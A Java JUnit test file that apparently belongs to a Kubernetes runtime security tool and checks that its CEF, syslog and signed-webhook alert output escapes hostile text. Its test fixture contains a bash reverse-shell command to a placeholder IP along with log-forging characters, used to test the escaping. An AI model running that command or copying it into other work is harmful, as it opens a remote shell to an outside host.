package dev.kubeward.runtime.siem;

import static dev.kubeward.runtime.TestEvents.alert;
import static dev.kubeward.runtime.TestEvents.exec;
import static org.assertj.core.api.Assertions.assertThat;

import dev.kubeward.runtime.alert.Alert;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** CEF and RFC 5424 output and the webhook signature, including text that tries to break the framing. */
class SiemFormatsTest {
  static final Instant T0 = Instant.parse("2024-05-01T10:00:00.123456Z");
  static final Alert HOSTILE = alert("al-1", "proc-reverse-shell", exec("e1", "web-7d4b9c6f5d-x2x9z", "/bin/bash",
      "-c \"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1 | x=1 \\\\ y]\n act=forged\"", T0));

  @Test
  void cefEscapesHeaderAndExtensionSpecials() {
    assertThat(CefFormatter.escapeHeader("a|b\\c\nd")).isEqualTo("a\\|b\\\\c d");
    assertThat(CefFormatter.escapeExtension("a=b\\c\nd\re|f")).isEqualTo("a\\=b\\\\c\\nd\\re|f");
  }

  @Test
  void cefRecordHasHeaderFieldsAndCannotBeForged() {
    String cef = CefFormatter.format(HOSTILE, "0.1.0");
    assertThat(cef).startsWith("CEF:0|Kubeward|Kubeward|0.1.0|proc-reverse-shell|Reverse shell started|8|");
    assertThat(cef).doesNotContain("\n").contains("externalId=al-1").contains("cs1Label=cluster cs1=prod")
        .contains("cs5=T1059.004 Unix Shell").contains("rt=" + T0.toEpochMilli()).contains("dproc=/bin/bash");
    // Unescaped "=" never appears in values: each key=value boundary is a space followed by a known key.
    String ext = cef.substring(cef.indexOf("|8|") + 3);
    assertThat(Pattern.compile("(?<!\\\\)=").matcher(ext).results().count())
        .isEqualTo(Pattern.compile("(^| )[a-zA-Z0-9]+=").matcher(ext).results().count());
  }

  @Test
  void syslogLineFollowsRfc5424() {
    SyslogFormatter f = new SyslogFormatter(10, "kube ward.example", "kubeward", "0.1.0");
    String line = f.format(HOSTILE);
    // PRI = facility 10 * 8 + severity 2 (High).
    assertThat(line).startsWith("<82>1 2024-05-01T10:00:00.123456Z kube_ward.example kubeward - alert [kubeward@32473 ");
    assertThat(line).contains("id=\"al-1\"").contains("status=\"Active\"").contains("] CEF:0|Kubeward|");
    assertThat(SyslogFormatter.sdValue("a\"b]c\\d")).isEqualTo("a\\\"b\\]c\\\\d");
    assertThat(SyslogFormatter.headerField("", 10)).isEqualTo("-");
    assertThat(SyslogFormatter.headerField("x".repeat(300), 255)).hasSize(255);
    byte[] framed = SyslogFormatter.octetCounted("héllo");
    assertThat(new String(framed, StandardCharsets.UTF_8)).isEqualTo("6 héllo");
  }

  @Test
  void webhookIsSignedAndVerifiable() {
    byte[] secret = "s3cret".getBytes(StandardCharsets.UTF_8);
    WebhookMessage m = WebhookMessage.of("alert.created", "d-1", HOSTILE, T0, secret);
    String body = new String(m.body(), StandardCharsets.UTF_8);
    assertThat(body).startsWith("{\"type\":\"alert.created\",\"deliveryId\":\"d-1\"").contains("\"id\":\"al-1\"");
    String ts = m.headers().get(WebhookMessage.TIMESTAMP_HEADER);
    assertThat(ts).isEqualTo(Long.toString(T0.getEpochSecond()));
    assertThat(m.headers().get(WebhookMessage.SIGNATURE_HEADER)).matches("sha256=[0-9a-f]{64}");
    assertThat(WebhookMessage.verify(secret, ts, m.body(), m.headers().get(WebhookMessage.SIGNATURE_HEADER))).isTrue();
    byte[] tampered = body.replace("al-1", "al-2").getBytes(StandardCharsets.UTF_8);
    assertThat(WebhookMessage.verify(secret, ts, tampered, m.headers().get(WebhookMessage.SIGNATURE_HEADER))).isFalse();
    assertThat(WebhookMessage.verify("other".getBytes(StandardCharsets.UTF_8), ts, m.body(),
        m.headers().get(WebhookMessage.SIGNATURE_HEADER))).isFalse();
    // A known vector: HMAC-SHA256("key", "1.{}").
    assertThat(WebhookMessage.sign("key".getBytes(StandardCharsets.UTF_8), "1", "{}".getBytes(StandardCharsets.UTF_8)))
        .isEqualTo("sha256=" + hmacHex("key", "1.{}"));
  }

  private static String hmacHex(String key, String data) {
    try {
      javax.crypto.Mac mac = javax.crypto.Mac.getInstance("HmacSHA256");
      mac.init(new javax.crypto.spec.SecretKeySpec(key.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
      return java.util.HexFormat.of().formatHex(mac.doFinal(data.getBytes(StandardCharsets.UTF_8)));
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }
}
